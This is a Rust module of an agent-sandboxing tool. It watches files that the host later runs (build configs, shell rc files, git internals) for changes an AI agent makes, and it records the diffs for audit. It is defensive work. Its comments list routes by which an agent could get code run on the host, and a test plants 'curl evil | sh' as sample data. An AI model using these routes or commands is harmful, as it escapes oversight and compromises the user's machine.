//! Files the agent may legitimately edit but the host runs later (`.envrc` through direnv, a
//! Makefile, `package.json` scripts, `.gitattributes` filter drivers, shell rc files): they stay
//! writable, and yolo flags every change to them. At the start of a session it records what they
//! hold (a baseline in yolo's data folder, out of the agent's reach); after `run`, `exec` and
//! `shell`, and before `up` and `down`, it looks again, writes a `watched_file` audit event per
//! change with the diff, prints one line naming them, and takes the new state as the baseline.
//!
//! The list is the user's (`[workspace] watch`, globs relative to the mounted folder, matched
//! without regard to case; defaults in `DEFAULT_WATCH`). Besides it yolo always watches what
//! would send the host's git somewhere the agent chose, flagged loudly because none of it can be
//! made read-only (git itself writes next to it):
//! - a `commondir` or `config.worktree` planted in `.git` or in a submodule's git folder;
//! - replace refs (`.git/refs/replace/*`, and `refs/replace/` lines of `packed-refs`): they make
//!   `git checkout`/`reset`/`stash` write other content than `git status` and `git diff` show;
//! - a `.git` (folder or file) anywhere below the root: a nested repository whose own config
//!   the host's `git status` runs once the index names it as a submodule, or a shell prompt does
//!   when you enter the folder. Its `config` (or the pointer file) is what is compared;
//! - a folder git takes for a repository by itself (a `HEAD` file beside `objects/` and `refs/`,
//!   as in a bare repository): git run in it on the host (a shell prompt entering it) uses its
//!   `config`, `core.fsmonitor` and `core.hooksPath` included (git's default
//!   `safe.bareRepository=all`). The folder and its `config` are compared;
//! - the todo lists of a rebase, cherry-pick or revert the agent left in progress
//!   (`.git/rebase-merge/git-rebase-todo`, `.git/sequencer/todo`): their `exec` lines run on the
//!   host when you continue it there;
//! - `objects/info/alternates` (object stores anywhere on the host) and `remotes/*` (remotes
//!   defined outside the read-only config), in `.git` and in submodules' git folders.
//!
//! The walk (the `ignore` crate, with every ignore rule off: `.gitignore` and `.ignore` are the
//! agent's to write, so they must not decide what is seen) skips only the root `.git` and
//! `node_modules` folders, and stops after `MAX_ENTRIES` entries, which the summary then says.
//! The walk and the look at each file go folder by folder through descriptors (`fs_at`), so
//! files deeper than the system's `PATH_MAX` are compared like any other. A folder it cannot
//! read makes the look incomplete too, and the notice names the first of them.

use crate::audit::{EventKind, Writer};
use crate::error::Result;
use crate::visible::escape_controls;
use globset::{Glob, GlobBuilder, GlobSet, GlobSetBuilder};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// What a host runs from a repository, often without asking: shells and direnv, build tools and
/// the language servers an editor starts when the folder opens (rust-analyzer runs `cargo
/// metadata`, which obeys `.cargo/config.toml`), git's attribute filters, editor settings below
/// the root (the root `.vscode/` and `.idea/` are read-only).
pub(crate) const DEFAULT_WATCH: &[&str] = &[
    "**/.envrc",
    "**/.envrc.*",
    "**/.env",
    "**/.env.*",
    "**/Makefile",
    "**/GNUmakefile",
    "**/*.mk",
    "**/justfile",
    "**/.justfile",
    "**/Taskfile.yml",
    "**/Taskfile.yaml",
    "**/package.json",
    "**/.npmrc",
    "**/.yarnrc",
    "**/.yarnrc.yml",
    // Yarn runs the release and plugins `.yarnrc.yml` names; pnpm runs `.pnpmfile.cjs` hooks.
    "**/.yarn/releases/**",
    "**/.yarn/plugins/**",
    "**/.pnpmfile.cjs",
    "**/.cargo/config",
    "**/.cargo/config.toml",
    "**/rust-toolchain",
    "**/rust-toolchain.toml",
    "**/build.rs",
    "**/pyproject.toml",
    "**/setup.py",
    "**/setup.cfg",
    "**/tox.ini",
    "**/noxfile.py",
    "**/.gitattributes",
    ".gitmodules",
    ".pre-commit-config.yaml",
    "**/lefthook.yml",
    "**/.lefthook.yml",
    ".husky/**",
    "**/.vscode/**",
    "**/.zed/**",
    "**/.helix/**",
    "**/*.code-workspace",
    ".nvim.lua",
    ".exrc",
    ".tool-versions",
    "**/.mise.toml",
    "**/mise.toml",
    // What an IDE imports on opening the folder, or a build tool runs as code: Gradle and
    // Maven (and their wrappers, which download and run the build tool they name), CMake and
    // Meson, Bazel, MSBuild, Ruby's and PHP's, pytest's conftest, Nix shells.
    "**/build.gradle",
    "**/build.gradle.kts",
    "**/settings.gradle",
    "**/settings.gradle.kts",
    "**/gradle.properties",
    "**/gradle/wrapper/gradle-wrapper.properties",
    "**/gradle/wrapper/gradle-wrapper.jar",
    "**/gradlew",
    "**/gradlew.bat",
    "**/mvnw",
    "**/mvnw.cmd",
    "**/pom.xml",
    "**/.mvn/**",
    "**/CMakeLists.txt",
    "**/CMakePresets.json",
    "**/CMakeUserPresets.json",
    "**/meson.build",
    "**/WORKSPACE",
    "**/WORKSPACE.bazel",
    "**/MODULE.bazel",
    "**/.bazelrc",
    "**/.bazelversion",
    "**/BUILD",
    "**/BUILD.bazel",
    "**/*.bzl",
    "**/Directory.Build.props",
    "**/Directory.Build.targets",
    "**/*.csproj",
    "**/*.fsproj",
    "**/*.vbproj",
    "**/NuGet.config",
    "**/global.json",
    "**/Gemfile",
    "**/*.gemspec",
    "**/Rakefile",
    "**/composer.json",
    "**/conftest.py",
    "**/flake.nix",
    "**/shell.nix",
    "**/default.nix",
    "**/Vagrantfile",
    // What an editor's linters and formatters load as code when the folder opens (the ESLint
    // and Prettier extensions import their config; Pylint's `init-hook` is Python).
    "**/eslint.config.js",
    "**/eslint.config.mjs",
    "**/eslint.config.cjs",
    "**/eslint.config.ts",
    "**/.eslintrc.js",
    "**/.eslintrc.cjs",
    "**/prettier.config.js",
    "**/prettier.config.mjs",
    "**/prettier.config.cjs",
    "**/.prettierrc.js",
    "**/.prettierrc.cjs",
    "**/.pylintrc",
    "**/pylintrc",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
];

/// Bytes one look reads to hash files by content; past it, files are identified by size, inode
/// and change time (`digest::file_within`): the agent decides how large they are.
const HASH_BUDGET: u64 = 64 << 20;
/// Files larger than this are compared by hash alone (no diff kept).
const MAX_TEXT: usize = 64 * 1024;
/// Files recorded at most, and folder entries walked at most: past either the workspace is not
/// fully watched, and the summary says so.
const MAX_FILES: usize = 5_000;
const MAX_ENTRIES: usize = 500_000;
/// Changes named one by one in the summary line; the rest are counted.
const NAMED: usize = 10;
/// Folders not walked: dependencies, a tree of their own (see docs/security-model.md).
const SKIPPED: [&str; 1] = ["node_modules"];

/// Check a `[workspace] watch` entry: a glob relative to the repository.
pub(crate) fn check_entry(entry: &str) -> std::result::Result<(), String> {
    if entry.trim().is_empty() {
        return Err("an entry must name a path or a glob".into());
    }
    if entry.starts_with('/') || entry.split('/').any(|c| c == "..") {
        return Err(format!(
            "\"{entry}\" must be relative to the repository, without \"..\""
        ));
    }
    Glob::new(entry).map(|_| ()).map_err(|e| e.to_string())
}

/// What yolo last saw of the watched files of one workspace.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub(crate) struct Baseline {
    /// The mounted folder the paths are relative to.
    pub(crate) root: PathBuf,
    pub(crate) patterns: Vec<String>,
    pub(crate) files: BTreeMap<String, Seen>,
    /// False when the walk stopped at `MAX_ENTRIES` or `MAX_FILES`, or left folders out.
    pub(crate) complete: bool,
    /// The first folders the walk could not read (relative), at most `NAMED`.
    pub(crate) left_out: Vec<String>,
}

/// One watched file as last seen.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub(crate) struct Seen {
    pub(crate) sha256: String,
    /// The text, when small and UTF-8 (for the diff); a symlink is `symlink -> target`.
    pub(crate) text: Option<String>,
    /// Git reads its config through this path.
    pub(crate) git: bool,
}

/// A change found between the baseline and now.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Change {
    pub(crate) path: String,
    pub(crate) change: &'static str,
    pub(crate) git: bool,
    pub(crate) diff: String,
    pub(crate) before: Option<String>,
    pub(crate) after: Option<String>,
}

fn baseline_path(devcontainer_id: &str) -> PathBuf {
    crate::store::watched_baseline(devcontainer_id)
}

impl Baseline {
    /// Look at the watched files under `root` now.
    pub(crate) fn scan(root: &Path, patterns: &[String]) -> Baseline {
        let walk = walk(root, patterns);
        let mut files = BTreeMap::new();
        let mut budget = HASH_BUDGET;
        for rel in walk.matched {
            if let Some(seen) = look(root, &rel, false, &mut budget) {
                files.insert(rel, seen);
            }
        }
        for rel in walk.nested_git.into_iter().chain(git_redirects(root)) {
            if let Some(seen) = look(root, &rel, true, &mut budget) {
                files.insert(rel, seen);
            }
        }
        if let Some(seen) = replace_refs_packed(root) {
            files.insert(PACKED_REPLACE.to_string(), seen);
        }
        Baseline {
            root: root.to_path_buf(),
            patterns: patterns.to_vec(),
            files,
            complete: walk.complete,
            left_out: walk.left_out,
        }
    }

    pub(crate) fn load(devcontainer_id: &str) -> Option<Baseline> {
        let text = std::fs::read_to_string(baseline_path(devcontainer_id)).ok()?;
        serde_json::from_str(&text).ok()
    }

    /// Write atomically, like the workspace state.
    pub(crate) fn save(&self, devcontainer_id: &str) -> Result<()> {
        crate::store::write_json(&baseline_path(devcontainer_id), self)
    }

    /// What changed from `self` to `now`, in path order.
    pub(crate) fn changes(&self, now: &Baseline) -> Vec<Change> {
        let mut out = Vec::new();
        let paths: std::collections::BTreeSet<&String> =
            self.files.keys().chain(now.files.keys()).collect();
        for path in paths {
            let (old, new) = (self.files.get(path), now.files.get(path));
            let change = match (old, new) {
                (None, Some(_)) => "added",
                (Some(_), None) => "removed",
                (Some(a), Some(b)) if a.sha256 != b.sha256 => "modified",
                _ => continue,
            };
            let text = |s: Option<&Seen>| s.map(|s| s.text.clone());
            let diff = match (text(old), text(new)) {
                (Some(None), _) | (_, Some(None)) => String::new(),
                (a, b) => unified(
                    path,
                    &a.flatten().unwrap_or_default(),
                    &b.flatten().unwrap_or_default(),
                ),
            };
            out.push(Change {
                path: path.clone(),
                change,
                git: old.or(new).is_some_and(|s| s.git),
                diff,
                before: old.map(|s| s.sha256.clone()),
                after: new.map(|s| s.sha256.clone()),
            });
        }
        out
    }
}

/// Record the baseline of a new session: what the watched files hold before the agent runs.
pub(crate) fn start(devcontainer_id: &str, root: &Path, patterns: &[String]) -> Result<()> {
    Baseline::scan(root, patterns).save(devcontainer_id)
}

/// What a look found: the changes, and whether the walk stopped before the end of the folder.
#[derive(Debug, Default)]
pub(crate) struct Report {
    pub(crate) changes: Vec<Change>,
    /// The walk stopped at a cap, or left out a folder, this time (and had not the time
    /// before).
    pub(crate) newly_incomplete: bool,
    /// The first folders the walk could not read.
    pub(crate) left_out: Vec<String>,
}

/// Look again: every change since the baseline goes to the audit log (when a session is open),
/// the baseline moves on, and the changes come back for the caller to print. No baseline (a
/// workspace yolo has not started): nothing to compare, nothing reported.
pub(crate) fn report(devcontainer_id: &str, writer: Option<&Writer>) -> Result<Report> {
    let Some(old) = Baseline::load(devcontainer_id) else {
        return Ok(Report::default());
    };
    let now = Baseline::scan(&old.root, &old.patterns);
    let report = compare(&old, &now, writer)?;
    if !report.changes.is_empty() || report.newly_incomplete {
        now.save(devcontainer_id)?;
    }
    Ok(report)
}

/// The changes from `old` to `now`, each written to the audit log when a session is open.
fn compare(old: &Baseline, now: &Baseline, writer: Option<&Writer>) -> Result<Report> {
    let report = Report {
        changes: old.changes(now),
        newly_incomplete: (old.complete && !now.complete)
            || now.left_out.iter().any(|l| !old.left_out.contains(l)),
        left_out: now.left_out.clone(),
    };
    if let Some(writer) = writer {
        for c in &report.changes {
            writer.write(EventKind::WatchedFile {
                path: c.path.clone(),
                change: c.change.to_string(),
                git: c.git,
                diff: c.diff.clone(),
                sha256_before: c.before.clone(),
                sha256_after: c.after.clone(),
            })?;
        }
        if report.newly_incomplete {
            writer.write(EventKind::Notice {
                message: incomplete_text(&report.left_out),
            })?;
        }
    }
    Ok(report)
}

/// With a remote engine the agent edits a copy (`crate::remote`), and its edits reach this
/// machine as the branch `yolo sync` writes: the watched files of that copy as last brought
/// back (or as the copy was made), kept beside the workspace's own baseline.
fn copy_baseline_path(devcontainer_id: &str) -> PathBuf {
    crate::store::watched_copy_baseline(devcontainer_id)
}

/// Record what the copy holds as it is made (`remote::copy_baseline`): the next sync
/// compares with it.
pub(crate) fn start_copy(devcontainer_id: &str, scan: &Baseline) -> Result<()> {
    crate::store::write_json(&copy_baseline_path(devcontainer_id), scan)
}

/// The watched files a sync brought onto the branch (`now`, only paths the branch holds)
/// compared with what the copy held at the last sync (else when it was made): each added,
/// modified or deleted one goes to the audit log and comes back to print, and `now` is the
/// copy's new record. Without a record of the copy (made by an older yolo) the workspace's
/// own baseline stands in, and a file the branch lacks is not flagged: that baseline also
/// holds ignored files, which never reach a branch.
pub(crate) fn report_copy(
    devcontainer_id: &str,
    now: &Baseline,
    writer: Option<&Writer>,
) -> Result<Report> {
    let path = copy_baseline_path(devcontainer_id);
    let copy = crate::digest::read_to_string(&path)
        .ok()
        .and_then(|text| serde_json::from_str::<Baseline>(&text).ok());
    let old = match copy {
        Some(old) => old,
        None => {
            let mut old = Baseline::load(devcontainer_id).unwrap_or_default();
            old.files.retain(|p, _| now.files.contains_key(p));
            old
        }
    };
    let report = compare(&old, now, writer)?;
    crate::store::write_json(&path, now)?;
    Ok(report)
}

fn incomplete_text(left_out: &[String]) -> String {
    if left_out.is_empty() {
        return format!(
            "the workspace holds more than {MAX_ENTRIES} entries or {MAX_FILES} watched files: yolo watched the first ones only"
        );
    }
    let named: Vec<String> = left_out.iter().map(|l| escape_controls(l)).collect();
    format!(
        "yolo could not look into these folders of the workspace (unreadable, or changed while it looked), and the files your host runs there are not checked: {}",
        named.join(", ")
    )
}

/// `report`, then the lines for the user on stderr. A failure to look is a warning: it must not
/// turn a finished command into a failed one.
pub(crate) fn report_and_print(devcontainer_id: &str, writer: Option<&Writer>) {
    match report(devcontainer_id, writer) {
        Ok(report) => {
            eprint!("{}", summary(&report.changes));
            if report.newly_incomplete {
                eprintln!(
                    "{} {}",
                    console::style("warning:").yellow().bold(),
                    incomplete_text(&report.left_out)
                );
            }
        }
        Err(e) => eprintln!(
            "{} could not check the files your host runs: {e}",
            console::style("warning:").yellow().bold()
        ),
    }
}

/// The lines printed after a command: one for the files the host runs (the first `NAMED` by
/// name, the rest counted), one per change git would follow.
pub(crate) fn summary(changes: &[Change]) -> String {
    summary_of(
        changes,
        "files your host runs changed",
        "review them before running them on the host",
    )
}

/// The same for the files a sync brought onto `branch` (a remote engine's copy).
pub(crate) fn summary_for_branch(changes: &[Change], branch: &str) -> String {
    summary_of(
        changes,
        &format!("{branch} changes files your host runs"),
        &format!("review them before you merge or check out {branch} (`git diff HEAD...{branch} -- PATH`)"),
    )
}

fn summary_of(changes: &[Change], what: &str, todo: &str) -> String {
    let mut out = String::new();
    let plain: Vec<&Change> = changes.iter().filter(|c| !c.git).collect();
    if !plain.is_empty() {
        let mut named: Vec<String> = plain
            .iter()
            .take(NAMED)
            .map(|c| format!("{} ({})", escape_controls(&c.path), c.change))
            .collect();
        if plain.len() > NAMED {
            named.push(format!("and {} more", plain.len() - NAMED));
        }
        out.push_str(&format!(
            "{} {what}: {}; {todo} (`yolo audit --kind watched_file` has the diffs)\n",
            console::style("yolo:").yellow().bold(),
            named.join(", ")
        ));
    }
    for c in changes.iter().filter(|c| c.git) {
        out.push_str(&format!(
            "{} {} was {}: {}. Check it before running git in this repository\n",
            console::style("warning:").red().bold(),
            escape_controls(&c.path),
            c.change,
            git_risk(&c.path),
        ));
    }
    out
}

/// What a change git follows lets the agent do on the host.
fn git_risk(path: &str) -> &'static str {
    if path.contains("refs/replace") {
        "a replace ref makes git checkout, reset and stash on the host write other content than git status and git diff show"
    } else if path.ends_with("objects/info/alternates") {
        "git on the host would read objects from the folders it names, anywhere on the host, as the repository's own"
    } else if path.contains(".git/remotes/") {
        "a remote defined outside the read-only config: `git fetch` or `git pull` of that name on the host goes where it says"
    } else if path.ends_with("git-rebase-todo") || path.ends_with("sequencer/todo") {
        "a rebase or cherry-pick the agent left in progress: its exec lines run on the host at `git rebase --continue` (or `git cherry-pick --continue`); read it, or `--abort`"
    } else if !path.split('/').any(|c| c == ".git") {
        "a folder git takes for a repository of its own (HEAD, objects/, refs/): git run in it on the host, a shell prompt entering it too, runs its config (core.fsmonitor, hooks); delete it, or set git's safe.bareRepository=explicit"
    } else if path.starts_with(".git/") {
        "git on the host would read its config and hooks where it points (a repository's own .git has none: delete it)"
    } else {
        "a repository inside the workspace: git on the host runs its config in `git status` once the index names it, or in that folder"
    }
}

/// What one walk of the folder found.
struct Walk {
    /// Paths (relative) the patterns match.
    matched: Vec<String>,
    /// The config (or pointer file) of every `.git` below the root.
    nested_git: Vec<String>,
    complete: bool,
    /// The first folders that could not be read.
    left_out: Vec<String>,
}

/// Walk `root` once, in name order (so a walk stopped at a cap stops at the same place each
/// time): the paths the patterns match, and every nested `.git` (recorded, not descended into).
/// The walk is descriptor-relative (`fs_at`): folders deeper than the system's `PATH_MAX` are
/// walked too.
fn walk(root: &Path, patterns: &[String]) -> Walk {
    use crate::fs_at::{Kind, Step};
    let set = globs(patterns);
    let mut nested = Vec::new();
    let folders = folder_globs(patterns);
    let root_real = root.canonicalize().ok();
    let mut matched = std::collections::BTreeSet::new();
    let mut complete = true;
    // Entries looked at below links count against the same cap: a thousand links to the root
    // must not make a thousand walks of it.
    let mut below_links = 0usize;
    let mut seen = 0usize;
    let mut left_out = Vec::new();
    crate::fs_at::walk(
        root,
        MAX_ENTRIES,
        |e| {
            let name = e.name;
            if name == "HEAD" {
                // A folder git takes for a repository (bare-style): recorded with its config.
                // The workspace's root too: with its `.git` broken (its HEAD removed, which
                // the agent can do), git falls back to the root itself.
                let rel = e.rel.parent().unwrap_or(Path::new(""));
                if let Some(config) = git_dir_config(e.dir, &root.join(rel)) {
                    // The root is named by its HEAD file.
                    let shown = if rel.as_os_str().is_empty() {
                        "HEAD".to_string()
                    } else {
                        rel.to_string_lossy().into_owned()
                    };
                    nested.push(shown);
                    // Its `commondir`'s config when it names one inside the workspace.
                    let config = config.canonicalize().unwrap_or(config);
                    let real = root_real.clone().unwrap_or_else(|| root.to_path_buf());
                    match config.strip_prefix(&real) {
                        Ok(c) => nested.push(c.to_string_lossy().into_owned()),
                        Err(_) => nested.push(rel.join("config").to_string_lossy().into_owned()),
                    }
                }
            }
            if name == ".git" && e.depth > 1 {
                // That it is there at all (a folder or a pointer file), and the config git reads.
                nested.push(e.rel.to_string_lossy().into_owned());
                if e.kind == Kind::Dir {
                    nested.push(e.rel.join("config").to_string_lossy().into_owned());
                }
                return Step::Skip;
            }
            if (e.depth == 1 && name == ".git") || SKIPPED.iter().any(|s| name == *s) {
                return Step::Skip;
            }
            seen += 1;
            if seen + below_links >= MAX_ENTRIES || matched.len() >= MAX_FILES {
                complete = false;
                return Step::Stop;
            }
            if e.kind == Kind::Dir {
                return Step::Enter;
            }
            let rel = e.rel;
            if set.is_match(rel) {
                matched.insert(rel.to_string_lossy().into_owned());
            }
            // A link where a watched folder would be (`.cargo -> tools/cargo`): the walk does
            // not follow links, but the host's tools do. The link itself is watched, and so is
            // what the patterns match below it, by the path the host uses.
            if e.kind == Kind::Symlink && folders.is_match(rel) {
                matched.insert(rel.to_string_lossy().into_owned());
                // Below it only when it leads into the mounted folder: a link elsewhere is read
                // on this host (`.cargo -> /`), and its being there is the news.
                let path = root.join(rel);
                let inside = path.canonicalize().is_ok_and(|target| {
                    target.is_dir() && root_real.as_ref().is_some_and(|r| target.starts_with(r))
                });
                if inside {
                    for file in files_below(&path, Some(LINKED_DEPTH)) {
                        below_links += 1;
                        if seen + below_links >= MAX_ENTRIES {
                            complete = false;
                            return Step::Stop;
                        }
                        if let Ok(below) = file.strip_prefix(&path) {
                            let shown = rel.join(below);
                            if set.is_match(&shown) && matched.len() < MAX_FILES {
                                matched.insert(shown.to_string_lossy().into_owned());
                            }
                        }
                    }
                }
            }
            Step::Enter
        },
        |rel, _| {
            // A folder the walk cannot read: what is below it is not checked, so the look is
            // incomplete and says where.
            let rel = rel.to_string_lossy().into_owned();
            if left_out.len() < NAMED && !left_out.contains(&rel) {
                left_out.push(rel);
            }
        },
    );
    Walk {
        matched: matched.into_iter().collect(),
        nested_git: nested,
        complete: complete && left_out.is_empty(),
        left_out,
    }
}

/// How deep below a linked folder its files are looked at (the watched patterns name files a
/// few levels below a folder: `.github/workflows/*.yml`, `.git/hooks/*`).
const LINKED_DEPTH: usize = 6;

/// The folders the patterns reach into: every leading part of a pattern that stops before its
/// last component and is not wildcards alone (`**/.cargo/config.toml` gives `**/.cargo`;
/// `.github/workflows/*.yml` gives `.github` and `.github/workflows`).
fn folder_globs(patterns: &[String]) -> GlobSet {
    globs(&yolo_protocol::folder_patterns(patterns))
}

/// Whether the path `rel` (relative to the repository, `/` separated) is one of the files the
/// host runs that `patterns` (`[workspace] watch`) name, or inside a nested `.git`.
pub(crate) fn is_watched(patterns: &[String], rel: &str) -> bool {
    globs(patterns).is_match(rel) || rel.split('/').any(|c| c == ".git")
}

fn globs(patterns: &[String]) -> GlobSet {
    let mut builder = GlobSetBuilder::new();
    for p in patterns {
        // Entries were checked when the settings were read; a bad one matches nothing.
        if let Ok(glob) = GlobBuilder::new(p).case_insensitive(true).build() {
            builder.add(glob);
        }
    }
    builder.build().unwrap_or_else(|_| GlobSet::empty())
}

/// The config git reads when it takes the folder open at `dir` (whose path is `path`) for a
/// repository of its own, as git's `setup.c` `is_git_directory` decides: a `HEAD` that reads as
/// one (a link into `refs/`, `ref: ...` or an object id), and `objects` and `refs` that git may
/// enter (`access(X_OK)`: through links, and a file with an execute bit passes too) in the
/// folder or in the one its `commondir` names. Looked at through the folder's descriptor, so a
/// repository deeper than `PATH_MAX` is found too.
fn git_dir_config(dir: std::os::fd::BorrowedFd, path: &Path) -> Option<PathBuf> {
    use crate::fs_at::{kind_at, read_link_at, Kind};
    let head_ok = match kind_at(dir, "HEAD".as_ref()) {
        Ok(Kind::Symlink) => {
            read_link_at(dir, "HEAD".as_ref()).is_ok_and(|t| t.starts_with("refs/"))
        }
        Ok(_) => read_start(dir, "HEAD").is_some_and(|text| {
            let text = text.trim();
            text.starts_with("ref:")
                || ((text.len() == 40 || text.len() == 64)
                    && text.chars().all(|c| c.is_ascii_hexdigit()))
        }),
        Err(_) => false,
    };
    if !head_ok {
        return None;
    }
    let common = match read_start(dir, "commondir") {
        Some(text) if !text.trim().is_empty() => PathBuf::from(text.trim()),
        _ => PathBuf::from("."),
    };
    let enterable = |p: &str| crate::fs_at::enterable_at(dir, &common.join(p));
    (enterable("objects") && enterable("refs")).then(|| {
        if common == Path::new(".") {
            path.join("config")
        } else {
            path.join(&common).join("config")
        }
    })
}

/// The first bytes of a small file of the repository, `name` in the folder open at `dir` (a
/// FIFO or device is none).
fn read_start(dir: std::os::fd::BorrowedFd, name: &str) -> Option<String> {
    use std::io::Read;
    let mut text = String::new();
    crate::fs_at::open_regular_at(dir, Path::new(name))
        .ok()?
        .take(4096)
        .read_to_string(&mut text)
        .ok()?;
    Some(text)
}

/// The name the `refs/replace/` lines of `packed-refs` are recorded under.
const PACKED_REPLACE: &str = ".git/packed-refs (refs/replace/)";

/// The `refs/replace/` lines of `.git/packed-refs`, as one watched text (None when there are
/// none).
fn replace_refs_packed(root: &Path) -> Option<Seen> {
    let packed = crate::digest::read_to_string(&root.join(".git/packed-refs")).ok()?;
    let lines: String = packed
        .lines()
        .filter(|l| l.contains("refs/replace/"))
        .map(|l| format!("{l}\n"))
        .collect();
    (!lines.is_empty()).then(|| Seen {
        sha256: hex::encode(Sha256::digest(lines.as_bytes())),
        text: Some(lines),
        git: true,
    })
}

/// The paths through which the host's git would read another config or other content:
/// `commondir` and `config.worktree` in `.git` and in each submodule's git folder, and the loose
/// replace refs.
fn git_redirects(root: &Path) -> Vec<String> {
    let git = root.join(".git");
    if !git.is_dir() {
        return Vec::new();
    }
    let mut dirs = vec![git.clone()];
    dirs.extend(crate::policy_facts::submodule_git_dirs(
        &git.join("modules"),
    ));
    let mut paths = Vec::new();
    for dir in &dirs {
        paths.push(dir.join("commondir"));
        paths.push(dir.join("config.worktree"));
        // A rebase or cherry-pick left in progress: its `exec` lines run at `--continue`.
        paths.push(dir.join("rebase-merge/git-rebase-todo"));
        paths.push(dir.join("sequencer/todo"));
        // Object stores git also reads (anywhere on the host), and remotes defined outside
        // the read-only config (`git fetch NAME` reads `remotes/NAME`).
        paths.push(dir.join("objects/info/alternates"));
        paths.extend(files_below(&dir.join("remotes"), Some(1)));
        paths.extend(files_below(&dir.join("refs/replace"), None));
    }
    paths
        .into_iter()
        .filter(|p| p.symlink_metadata().is_ok())
        .filter_map(|p| {
            p.strip_prefix(root)
                .ok()
                .map(|r| r.to_string_lossy().into_owned())
        })
        .collect()
}

/// The entries below `dir` that are not folders (links included, never followed), at most
/// `depth` levels down.
fn files_below(dir: &Path, depth: Option<usize>) -> impl Iterator<Item = PathBuf> {
    ignore::WalkBuilder::new(dir)
        .standard_filters(false)
        .follow_links(false)
        .max_depth(depth)
        .build()
        .flatten()
        .filter(|e| !e.file_type().is_some_and(|t| t.is_dir()))
        .map(|e| e.into_path())
}

/// What `rel` (below `root`) holds now; `None` if it is gone or not a file or link. A link is
/// its target's path and, when that lies in the mounted folder, the target's content too: an
/// edit through the link is an edit of what the host runs.
fn look(root: &Path, rel: &str, git: bool, budget: &mut u64) -> Option<Seen> {
    use crate::fs_at::Kind;
    use std::os::fd::AsFd;
    // Through the descriptor of its folder: a file deeper than `PATH_MAX` is looked at too.
    let (dir, name) = crate::fs_at::parent(root, Path::new(rel)).ok()?;
    let kind = crate::fs_at::kind_at(dir.as_fd(), &name).ok()?;
    let seen = |text: String, content: Option<&str>| Seen {
        sha256: hex::encode(Sha256::digest(
            format!("{text}\n{}", content.unwrap_or_default()).as_bytes(),
        )),
        text: Some(text),
        git,
    };
    if kind == Kind::Symlink {
        let target = crate::fs_at::read_link_at(dir.as_fd(), &name).ok()?;
        let text = format!("symlink -> {}", target.display());
        // Deeper than `PATH_MAX` a link's target cannot be named by path, so it is not known
        // to be inside the mounted folder: only the link is compared there.
        let path = root.join(rel);
        let inside = path
            .canonicalize()
            .ok()
            .filter(|target| root.canonicalize().is_ok_and(|r| target.starts_with(r)));
        let content = inside.and_then(|t| crate::digest::file_within(&t, 0, budget).ok());
        return Some(seen(text, content.as_ref().map(|d| d.sha256.as_str())));
    }
    if git && kind == Kind::Dir {
        // A nested repository's folder: its being there is the news.
        return Some(seen("a git folder".into(), None));
    }
    if kind != Kind::File {
        return None;
    }
    let file = crate::fs_at::open_regular_at(dir.as_fd(), Path::new(&name)).ok()?;
    let digest = crate::digest::open_within(file, MAX_TEXT as u64, budget).ok()?;
    Some(Seen {
        sha256: digest.sha256,
        text: digest.bytes.and_then(|b| String::from_utf8(b).ok()),
        git,
    })
}

/// A unified diff of one file, the repository's control characters escaped.
fn unified(path: &str, old: &str, new: &str) -> String {
    let diff = similar::TextDiff::from_lines(old, new);
    let path = escape_controls(path);
    let text = diff
        .unified_diff()
        .context_radius(3)
        .header(&format!("a/{path}"), &format!("b/{path}"))
        .to_string();
    crate::visible::escape_lines(&text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(entries: &[&str]) -> Vec<String> {
        entries.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn entries_are_relative_globs() {
        for good in ["Makefile", "**/package.json", "scripts/*.sh"] {
            assert!(check_entry(good).is_ok(), "{good}");
        }
        for bad in ["", "/etc/profile", "../x", "a/../b", "[unclosed"] {
            assert!(check_entry(bad).is_err(), "{bad}");
        }
        for d in DEFAULT_WATCH {
            assert!(check_entry(d).is_ok(), "{d}");
        }
        assert!(check_entry("Justfile").is_ok());
    }

    fn defaults() -> Vec<String> {
        DEFAULT_WATCH.iter().map(|s| s.to_string()).collect()
    }

    fn write(root: &Path, rel: &str, text: &str) {
        let path = root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    #[test]
    fn changes_are_found_with_a_diff_whatever_the_ignore_files_say() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, ".gitignore", ".envrc\nbuild/\n");
        write(root, ".envrc", "export A=1\n");
        write(root, "pkg/a/package.json", "{}\n");
        write(root, "build/Makefile", "all:\n");
        write(root, "node_modules/x/package.json", "{}\n");
        let patterns = defaults();
        let before = Baseline::scan(root, &patterns);
        assert!(before.complete);
        assert!(before.files.contains_key(".envrc"), "an ignored root file");
        assert!(before.files.contains_key("pkg/a/package.json"));
        assert!(
            before.files.contains_key("build/Makefile"),
            "ignored folders are walked"
        );
        assert!(!before.files.contains_key("node_modules/x/package.json"));
        // What an IDE runs when it opens the folder.
        for file in [
            "app/build.gradle.kts",
            "gradle/wrapper/gradle-wrapper.properties",
            "native/CMakeLists.txt",
            "tests/conftest.py",
            "Gemfile",
            // What a package manager or an editor's linter runs as code.
            "gradle/wrapper/gradle-wrapper.jar",
            ".yarn/releases/yarn-4.1.0.cjs",
            "web/.pnpmfile.cjs",
            "web/eslint.config.mjs",
            ".prettierrc.js",
            ".pylintrc",
            "Vagrantfile",
        ] {
            assert!(globs(&patterns).is_match(file), "{file}");
        }

        write(root, ".envrc", "export A=1\ncurl evil | sh\x1b]0;t\x07\n");
        std::fs::remove_file(root.join("pkg/a/package.json")).unwrap();
        write(root, "Justfile", "default:\n\ttrue\n");
        // An `.ignore` the agent writes hides nothing.
        write(root, "build/.ignore", "Makefile\n");
        write(root, "build/Makefile", "all:\n\tevil\n");
        write(
            root,
            "rs/.cargo/config.toml",
            "[build]\nrustc-wrapper = \"w.sh\"\n",
        );
        write(root, "notes.txt", "not watched");
        let changes = before.changes(&Baseline::scan(root, &patterns));
        let got: Vec<(&str, &str)> = changes
            .iter()
            .map(|c| (c.path.as_str(), c.change))
            .collect();
        assert_eq!(
            got,
            [
                (".envrc", "modified"),
                ("Justfile", "added"),
